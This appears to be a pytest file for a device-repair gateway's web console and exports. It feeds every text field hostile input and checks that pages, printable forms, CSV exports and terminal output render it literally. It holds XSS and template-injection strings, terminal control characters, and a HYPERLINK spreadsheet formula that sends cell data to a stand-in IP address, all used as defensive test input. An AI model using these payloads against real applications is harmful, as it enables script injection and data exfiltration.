"""What devices, owners and technicians write is shown and never interpreted: on all pages, in all exports."""

import csv
import io
from contextlib import ExitStack

import httpx
import pytest
from browser.conftest import Watched
from gateways import PATIENCE, Device, gateway, now_ms, run_command
from servers import wait_until

from gateway.wire.topics import Leaf

pytestmark = [pytest.mark.browser, pytest.mark.server]

DEVICE = "acme/server/srv-1"

#: Markup, a template of the console's framework, a formula, and characters that reverse or control a line.
NASTY = (
    '<img src=x onerror="window.interpreted=1"><script>window.interpreted=1</script>'
    '{{constructor.constructor("window.interpreted=1")()}}\u202e\u0007\x1b[31m"\'</td>'
)
FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"open")'

#: Cells that begin so are formulas to a spreadsheet.
FORMULAS = ("=", "+", "-", "@", "\t", "\r")

PAGES = (
    "/cases", "/cases?state=all", "/cases/{case}", "/orders", "/orders/{order}", "/devices",
    f"/devices/{DEVICE}", "/fleet", "/rules", "/quarantine", "/silences", "/dead-letters",
)  # fmt: skip

EXPORTS = ("fleet/health.csv", "fleet/rules.csv", "fleet/outcomes.csv", "fleet/delays.csv")


def nasty(field: str) -> str:
    """Return the text for a field: short enough for all of them, and it names the field."""
    return f"{field} {NASTY}"


def row(**cells: str) -> str:
    text = io.StringIO()
    writer = csv.DictWriter(text, list(cells), lineterminator="\n")
    writer.writeheader()
    writer.writerow(cells)
    return text.getvalue()


def write_registry(folder):
    """Every text of the registry is nasty, as far as the registry takes it."""
    folder.mkdir(parents=True)
    tables = {
        "owners": row(owner="o1", name=nasty("owner"), contact=FORMULA, language="de"),
        "sites": row(site="s1", address=nasty("address"), country="DE", time_zone="Europe/Berlin"),
        "devices": row(
            **{"tenant": "acme", "class": "server", "device": "srv-1", "owner": "o1", "site": "s1"},
            model="R740", serial=FORMULA, bought="2026-01-01",
        ),
        "warranties": row(
            tenant="acme", kind="warranty", model="*", months="24", contract=FORMULA,
            coverage=nasty("coverage"),
        ),
        "parts": row(part=FORMULA, title=nasty("part"), kind="drive", models="*"),
        "stock": row(warehouse=nasty("warehouse"), country="DE", part=FORMULA, quantity="3"),
        "repairers": row(
            repairer="r1", name=nasty("repairer"), countries="DE", channels="on_site",
            skills="server", country="DE", address=nasty("workshop"),
        ),
    }  # fmt: skip
    for name, text in tables.items():
        (folder / f"{name}.csv").write_text(printable(text), encoding="utf-8")


def printable(text: str) -> str:
    """Return a text as a careful registry would hold it: files of people have no control characters."""
    return text.replace("\u0007", "").replace("\x1b", "")


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    """A gateway that has been told nasty things by everybody, by all ways that there are."""
    folder = tmp_path_factory.mktemp("strings")
    write_registry(folder / "data" / "registry")
    with ExitStack() as stack:
        running = stack.enter_context(gateway(folder, "embedded"))
        broker = f"mqtt://127.0.0.1:{(running.data / 'broker' / 'port').read_text()}"
        device = stack.enter_context(Device(broker, DEVICE))
        stranger = stack.enter_context(Device(broker, "acme/toaster/t-1"))
        facts = {name: nasty(name) for name in ("model", "serial", "firmware", "os", "rack")}
        device.say(
            Leaf.FACTS.value, facts | {"components": {"sda": {"model": FORMULA, "serial": nasty("disk")}}}
        )
        device.measure(now_ms(), {"disk.smart_passed@sda": False, "disk.reallocated_sectors@sda": 1424,
                                  "system.mode": NASTY[:60], "error.code": FORMULA})  # fmt: skip
        device.send(Leaf.TELEMETRY.value, NASTY.encode())
        stranger.send("telemetry", FORMULA.encode())
        order = wait_until(lambda: first(running, "orders"), seconds=PATIENCE, every=0.1, what="an order")
        case = order["case_id"]
        for path, body in (
            (f"cases/{case}/comment", {"note": nasty("comment")}),
            (f"cases/{case}/assign", {"assignee": printable(nasty("assignee"))[:100], "note": FORMULA}),
            (f"cases/{case}/silence", {"for": "4h", "note": nasty("silence")}),
            (f"orders/{order['order_id']}/state", {"state": "acknowledged", "note": FORMULA}),
            (
                f"orders/{order['order_id']}/close",
                {
                    "outcome": "repaired",
                    "note": nasty("outcome"),
                    "parts_used": [{"part": FORMULA, "quantity": 1}],
                },
            ),
        ):
            answer = httpx.post(f"{running.url}/api/v1/{path}", json=body, timeout=PATIENCE)
            assert answer.is_success, (path, answer.text)
        yield running, case, order["order_id"]


def first(running, name):
    found = running.items(name)
    return found[0] if found else None


@pytest.mark.parametrize("path", PAGES)
def test_pages_show_it_and_run_nothing(world, chromium, path):
    running, case, order = world
    context = chromium.new_context(base_url=running.url, viewport={"width": 1440, "height": 900})
    context.set_default_timeout(20_000)
    page = context.new_page()
    watched = Watched(running.url)
    watched.watch(page)
    try:
        page.goto(path.format(case=case, order=order))
        page.wait_for_function("window.did_handshake === true")
        page.locator("main h1").first.wait_for()
        assert page.evaluate("window.interpreted") is None
        assert page.locator("img[onerror], main script, main img[src=x]").count() == 0
    finally:
        context.close()
    assert watched.strangers == []
    assert watched.complaints == []


def test_the_case_shows_every_character_of_what_was_written(world, chromium):
    running, case, _ = world
    page = chromium.new_page(base_url=running.url)
    page.goto(f"/cases/{case}")
    page.get_by_text('comment <img src=x onerror="window.interpreted=1">').first.wait_for()
    page.close()


@pytest.mark.parametrize("path", EXPORTS)
def test_tables_for_spreadsheets_hold_no_formula(world, path):
    running, *_ = world
    answer = running.get(f"/api/v1/{path}").raise_for_status()
    check_cells(answer.text)


def test_orders_as_csv_hold_no_formula(world):
    running, *_ = world
    told = running.forewarn("orders", "export", "--csv")
    assert told.returncode == 0, told.stderr
    assert "HYPERLINK" in told.stdout
    check_cells(told.stdout)


def check_cells(text: str) -> None:
    for line in csv.reader(io.StringIO(text)):
        for cell in line:
            assert not cell.startswith(FORMULAS) or is_number(cell), cell


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("paper", ["paper.html", "repair-form.html"])
def test_papers_carry_no_markup_of_anybody_s(world, chromium, paper):
    running, _, order = world
    page = chromium.new_page(base_url=running.url)
    page.goto(f"/api/v1/orders/{order}/{paper}")
    assert page.locator("script, img[src=x], [onerror]").count() == 0
    assert page.evaluate("window.interpreted") is None
    page.close()


def test_the_command_line_sends_the_terminal_no_control_characters(world):
    running, _, order = world
    for arguments in (("orders", "show", order), ("explain", DEVICE), ("quarantine", "list")):
        told = run_command(*arguments, "--config", running.config)
        assert told.returncode == 0, told.stderr
        assert "\x1b" not in told.stdout, arguments
        assert "\u0007" not in told.stdout, arguments
        assert "\u202e" not in told.stdout, arguments
